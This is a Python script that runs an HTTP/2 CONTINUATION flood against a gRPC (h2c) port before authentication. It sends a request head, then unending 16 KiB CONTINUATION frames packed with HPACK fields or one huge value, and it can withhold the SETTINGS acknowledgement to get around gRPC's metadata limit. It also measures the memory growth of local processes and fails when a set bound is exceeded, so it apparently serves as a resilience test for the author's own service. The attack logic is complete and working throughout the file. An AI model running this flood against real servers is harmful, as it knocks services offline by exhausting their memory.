#!/usr/bin/python3
"""HTTP/2 CONTINUATION flood against a gRPC (h2c) port, before authentication.

One TCP connection sends the HTTP/2 client preface, an empty SETTINGS frame,
a HEADERS frame without END_HEADERS (a valid gRPC request head: :method POST,
:scheme http, :path /radial.v1.Radial/Generate, :authority, content-type
application/grpc, te trailers), then CONTINUATION frames of 16 KiB each,
never END_HEADERS. --mode picks what they carry:
  tiny    (default) 4096 four-byte HPACK literal fields each ("x" with an empty
          value, literal without indexing, new name): the most fields, and so
          the most memory, per byte for a server that keeps the block;
  fields  complete fields of --value-bytes each (x-flood-N: aaaa...);
  value   one field opened in the HEADERS frame with a 1 GiB value that
          runs through every CONTINUATION.
The peer's SETTINGS are acknowledged unless --no-ack-settings: gRPC applies
its metadata size limit only once they are, so an attacker does not.

While sending it samples VmRSS and VmHWM (/proc/PID/status, MiB) of every
--pid at each --mb mark (after RSS has held still for 0.3 s, at most
--settle-s) and notes whether the peer closed the connection (and after how
many bytes sent), sent GOAWAY or RST_STREAM, answered in HTTP/1.1, or stopped
reading (a send blocked for --stall-s seconds). The connection stays open
until the end has been sampled too.

Prints one JSON object on stdout and a one-line summary on stderr. A
process's growth is its highest VmRSS at a mark or at the end minus its
VmRSS before the flood. Exit status: 1 when a growth exceeds its bound
(--bound NAME=MiB, or --expect-bounded-mib for every --pid), 2 on a usage
or connection error, else 0.

usage:
  h2_continuation_flood.py --host 127.0.0.1 --port 50051 --pid radiald=1234 \\
      [--pid nginx=1240] [--mb 1,4,16,32] [--no-ack-settings] \\
      [--expect-bounded-mib 16] [--bound nginx=64]
"""

import argparse
import json
import socket
import struct
import sys
import threading
import time

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
HEADERS, RST_STREAM, SETTINGS, GOAWAY, CONTINUATION = 1, 3, 4, 7, 9
ACK = 0x1  # SETTINGS flag; END_HEADERS (0x4) is never sent
FRAME_NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS", 5: "PUSH_PROMISE",
               6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
SETTING_NAMES = {1: "HEADER_TABLE_SIZE", 2: "ENABLE_PUSH", 3: "MAX_CONCURRENT_STREAMS",
                 4: "INITIAL_WINDOW_SIZE", 5: "MAX_FRAME_SIZE", 6: "MAX_HEADER_LIST_SIZE"}
MAX_FRAME = 16384  # SETTINGS_MAX_FRAME_SIZE's initial value: every HTTP/2 peer takes it


def frame(ftype, flags, stream, payload):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


def hpack_int(value, prefix_bits, first=0):
    """An HPACK integer (RFC 7541 5.1) with the first byte's high bits `first`."""
    limit = (1 << prefix_bits) - 1
    if value < limit:
        return bytes([first | value])
    out = bytearray([first | limit])
    value -= limit
    while value >= 128:
        out.append((value & 0x7F) | 0x80)
        value >>= 7
    out.append(value)
    return bytes(out)


def hpack_str(s):
    return hpack_int(len(s), 7) + s  # not Huffman-coded


def literal_new_name(name, value):
    """Literal header field without indexing, new name (RFC 7541 6.2.2)."""
    return b"\x00" + hpack_str(name) + hpack_str(value)


def literal_indexed_name(index, value):
    """Literal header field without indexing, indexed name."""
    return hpack_int(index, 4) + hpack_str(value)


def request_head(authority):
    return (b"\x83"  # :method POST (static 3)
            + b"\x86"  # :scheme http (static 6)
            + literal_indexed_name(4, b"/radial.v1.Radial/Generate")  # :path
            + literal_indexed_name(1, authority.encode())  # :authority
            + literal_new_name(b"content-type", b"application/grpc")
            + literal_new_name(b"te", b"trailers"))


def continuation_block(counter, value_bytes):
    """Exactly MAX_FRAME bytes of complete literal fields (x-flood-N: aaaa...)."""
    out = bytearray()
    while MAX_FRAME - len(out) > value_bytes + 100:
        out += literal_new_name(b"x-flood-%d" % counter[0], b"a" * value_bytes)
        counter[0] += 1
    # One last field that fills the frame exactly.
    rest = MAX_FRAME - len(out)
    name = b"x-flood-%d" % counter[0]
    counter[0] += 1
    while True:
        for vlen in range(rest, -1, -1):
            field = literal_new_name(name, b"a" * vlen)
            if len(field) == rest:
                return bytes(out + field)
            if len(field) < rest:
                break
        name += b"x"  # no value length fits: a longer name shifts the sizes


def read_status(pid):
    out = {}
    try:
        with open(f"/proc/{pid}/status") as f:
            for line in f:
                key, _, rest = line.partition(":")
                if key in ("VmRSS", "VmHWM"):
                    out[key] = int(rest.split()[0]) // 1024  # MiB
    except OSError:
        return None
    return out


class Reader(threading.Thread):
    """Drains the peer's frames; records GOAWAY / RST_STREAM and EOF."""

    def __init__(self, sock, ack_settings):
        super().__init__(daemon=True)
        self.sock = sock
        self.ack_settings = ack_settings
        self.send_lock = threading.Lock()  # whole frames only, the sender's and the ACKs
        self.peer_settings = {}
        self.buf = b""
        self.frames = {}
        self.goaway = None
        self.rst = None
        self.http1_reply = None
        self.closed_at = None  # time of EOF / reset
        self.close_reason = None
        self.sent = 0  # updated by the sender (for "closed after N bytes")
        self.closed_after_bytes = None

    def run(self):
        while True:
            try:
                chunk = self.sock.recv(65536)
            except OSError as e:
                self.close_reason = f"recv: {e.__class__.__name__}: {e}"
                break
            if not chunk:
                self.close_reason = "EOF"
                break
            self.buf += chunk
            self.parse()
        self.closed_at = time.monotonic()
        self.closed_after_bytes = self.sent

    def parse(self):
        if self.http1_reply is None and self.buf.startswith(b"HTTP/"):
            self.http1_reply = self.buf.split(b"\r\n", 1)[0].decode(errors="replace")
        while len(self.buf) >= 9 and not self.buf.startswith(b"HTTP/"):
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                return
            ftype, flags, payload = self.buf[3], self.buf[4], self.buf[9:9 + length]
            self.buf = self.buf[9 + length:]
            name = FRAME_NAMES.get(ftype, str(ftype))
            self.frames[name] = self.frames.get(name, 0) + 1
            if ftype == SETTINGS and not flags & ACK:
                for i in range(0, len(payload) - 5, 6):
                    self.peer_settings[int.from_bytes(payload[i:i + 2], "big")] = \
                        int.from_bytes(payload[i + 2:i + 6], "big")
                if self.ack_settings:
                    with self.send_lock:
                        try:
                            self.sock.sendall(frame(SETTINGS, ACK, 0, b""))
                        except OSError:
                            pass
            if ftype == GOAWAY and len(payload) >= 8:
                self.goaway = {"last_stream": int.from_bytes(payload[:4], "big") & 0x7FFFFFFF,
                               "error_code": int.from_bytes(payload[4:8], "big"),
                               "debug": payload[8:200].decode(errors="replace"),
                               "after_bytes": self.sent}
            elif ftype == RST_STREAM and len(payload) >= 4 and self.rst is None:
                self.rst = {"error_code": int.from_bytes(payload[:4], "big"), "after_bytes": self.sent}


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--pid", action="append", default=[],
                    help="NAME=PID (or PID) of a process whose RSS to sample; repeatable")
    ap.add_argument("--mb", default="1,4,16,32", help="MiB marks to sample at; the last is the total sent")
    ap.add_argument("--expect-bounded-mib", type=float, default=None,
                    help="fail when a process's RSS grows by more than this many MiB")
    ap.add_argument("--bound", action="append", default=[], help="NAME=MiB: a per-process bound")
    ap.add_argument("--mode", choices=("fields", "tiny", "value"), default="tiny",
                    help="fields: each CONTINUATION holds complete header fields (x-flood-N: a * "
                         "--value-bytes); tiny: 4096 four-byte fields 'x: ' each; value: the HEADERS "
                         "frame opens one header whose value (1 GiB declared) runs through every CONTINUATION")
    ap.add_argument("--value-bytes", type=int, default=4000,
                    help="each flood header's value length (small: more fields per frame)")
    ap.add_argument("--settle-s", type=float, default=2.0,
                    help="before each sample, wait until RSS holds still for 0.3 s, at most this long")
    ap.add_argument("--no-ack-settings", dest="ack_settings", action="store_false",
                    help="never acknowledge the peer's SETTINGS (limits it only applies once acked stay off)")
    ap.add_argument("--stall-s", type=float, default=5.0,
                    help="a send blocked this long counts as the peer no longer reading")
    args = ap.parse_args()

    procs = {}
    for p in args.pid:
        name, _, pid = p.rpartition("=")
        procs[name or pid] = int(pid)
    bounds = {}
    for b in args.bound:
        name, _, mib = b.partition("=")
        bounds[name] = float(mib)
    for name in procs:
        if name not in bounds and args.expect_bounded_mib is not None:
            bounds[name] = args.expect_bounded_mib
    marks = sorted(float(x) for x in args.mb.split(","))

    before = {name: read_status(pid) for name, pid in procs.items()}
    for name, st in before.items():
        if st is None:
            print(f"h2_continuation_flood: no process {procs[name]} ({name})", file=sys.stderr)
            return 2
    try:
        sock = socket.create_connection((args.host, args.port), timeout=5)
    except OSError as e:
        print(f"h2_continuation_flood: connect {args.host}:{args.port}: {e}", file=sys.stderr)
        return 2
    sock.settimeout(args.stall_s)
    reader = Reader(sock, args.ack_settings)
    reader.start()

    def send(data):
        with reader.send_lock:
            sock.sendall(data)

    def settle():
        """Lets the peer catch up: until no RSS changes for 0.3 s (at most --settle-s)."""
        deadline = time.monotonic() + args.settle_s
        last = {name: read_status(pid) for name, pid in procs.items()}
        while time.monotonic() < deadline:
            time.sleep(0.3)
            now = {name: read_status(pid) for name, pid in procs.items()}
            if now == last:
                break
            last = now
        return last

    t0 = time.monotonic()
    block = request_head(f"{args.host}:{args.port}")
    if args.mode == "value":
        block += b"\x00" + hpack_str(b"x-flood") + hpack_int(1 << 30, 7)  # the value follows
    filler = b"a" * MAX_FRAME if args.mode == "value" else literal_new_name(b"x", b"") * (MAX_FRAME // 4)
    counter = [0]
    samples = []
    outcome = "sent everything"
    sent = 0
    try:
        send(PREFACE + frame(SETTINGS, 0, 0, b""))
        head = frame(HEADERS, 0, 1, block)
        send(head)
        sent = len(PREFACE) + 9 + len(head)
        reader.sent = sent
        for mark in marks:
            target = int(mark * 1024 * 1024)
            while sent < target:
                if reader.closed_at is not None:
                    raise ConnectionError("closed by the peer")
                payload = filler if args.mode != "fields" else continuation_block(counter, args.value_bytes)
                data = frame(CONTINUATION, 0, 1, payload)
                send(data)
                sent += len(data)
                reader.sent = sent
            samples.append({"mib_sent": round(sent / 1048576, 2), **settle(),
                            "t_s": round(time.monotonic() - t0, 2)})
    except socket.timeout:
        outcome = f"the peer stopped reading (a send blocked {args.stall_s} s)"
    except (ConnectionError, OSError) as e:
        outcome = f"connection closed by the peer ({e.__class__.__name__}: {e})"
    # What the peer did after the last frame, and RSS once it settled, the
    # connection still open.
    reader.join(0.5)
    final = settle()
    closed = reader.closed_at is not None or outcome.startswith("connection closed")
    try:
        sock.close()
    except OSError:
        pass

    growth = {}
    failed = []
    for name in procs:
        if final[name] is None:
            growth[name] = None
            failed.append(f"{name} (pid {procs[name]}) exited")
            continue
        peak = max([final[name]["VmRSS"]] + [x[name]["VmRSS"] for x in samples if x.get(name)])
        growth[name] = peak - before[name]["VmRSS"]
        if name in bounds and growth[name] > bounds[name]:
            failed.append(f"{name}: RSS grew {growth[name]} MiB > {bounds[name]:g} MiB")
    result = {
        "target": f"{args.host}:{args.port}",
        "mib_sent": round(sent / 1048576, 2),
        "outcome": outcome,
        "peer_closed": closed,
        "closed_after_mib": (round(reader.closed_after_bytes / 1048576, 2)
                             if reader.closed_after_bytes is not None else None),
        "close_reason": reader.close_reason,
        "goaway": reader.goaway,
        "rst_stream": reader.rst,
        "http1_reply": reader.http1_reply,
        "frames_received": reader.frames,
        "peer_settings": {SETTING_NAMES.get(k, str(k)): v for k, v in reader.peer_settings.items()},
        "acked_settings": args.ack_settings,
        "rss_before_mib": before,
        "samples": samples,
        "rss_after_mib": final,
        "rss_growth_mib": growth,
        "bounds_mib": bounds,
        "failures": failed,
        "seconds": round(time.monotonic() - t0, 2),
    }
    print(json.dumps(result, indent=1))
    # One line for people, on stderr.
    rss = lambda d: " ".join(f"{k} {v['VmRSS'] if v else '-'}" for k, v in d.items())
    marks = "; ".join(f"{s['mib_sent']:g} MiB: {rss({k: s.get(k) for k in procs})}" for s in samples)
    print(f"flood at {result['target']}: sent {result['mib_sent']:g} MiB, {outcome}"
          + (f" (after {result['closed_after_mib']:g} MiB)" if result["closed_after_mib"] is not None else "")
          + f"; RSS MiB before: {rss(before)}" + (f"; {marks}" if marks else "")
          + f"; after: {rss(final)}; growth {growth}", file=sys.stderr)
    for f in failed:
        print(f"FAIL: {f}", file=sys.stderr)
    return 1 if failed else 0


if __name__ == "__main__":
    sys.exit(main())
